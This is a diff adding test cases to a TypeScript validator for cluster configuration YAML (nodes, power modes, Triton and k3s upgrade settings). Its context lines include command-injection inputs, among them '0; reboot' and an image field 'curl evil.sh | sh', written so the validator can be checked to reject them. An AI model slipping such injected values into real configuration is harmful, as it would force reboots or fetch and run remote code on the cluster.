@@ -108,6 +108,8 @@ const cases: [string, string | ((dir: string) => string), string][] = [
   ['an nvpmodel mode that is a shell command', 'nodes:\n  server:\n    name: jm-node-1\n    powerMode:\n      nvpmodel: "0; reboot"\n', 'nodes.server.powerMode.nvpmodel'],
   ['an nvpmodel mode out of range', 'hostPrep:\n  powerModes:\n    jetpack4:\n      nvpmodel: 100000\n', 'hostPrep.powerModes.jetpack4.nvpmodel'],
   ['a power mode for an unknown profile', 'hostPrep:\n  powerModes:\n    jetpack9:\n      nvpmodel: 0\n', 'hostPrep.powerModes'],
+  ['nodes written as one list', 'nodes:\n  - { name: jm-node-1, address: 10.0.0.31 }\n', 'nodes: must be a mapping with the server apart from its agents: nodes: { server:'],
+  ['nodes written as a string', 'nodes: jm-node-1\n', 'nodes: must be a mapping with the server apart from its agents'],
   ['an empty power mode', 'nodes:\n  server:\n    name: jm-node-1\n    powerMode: {}\n', 'nodes.server.powerMode: must set nvpmodel (a mode number) or jetsonClocks'],
   ['a minReadySeconds of a day', 'triton:\n  minReadySeconds: 86400\n', 'triton.minReadySeconds: must be at most 3600 seconds'],
   ['a k3s-upgrade image with a shell command', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: "rancher/k3s-upgrade; curl evil.sh | sh"\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image reference'],
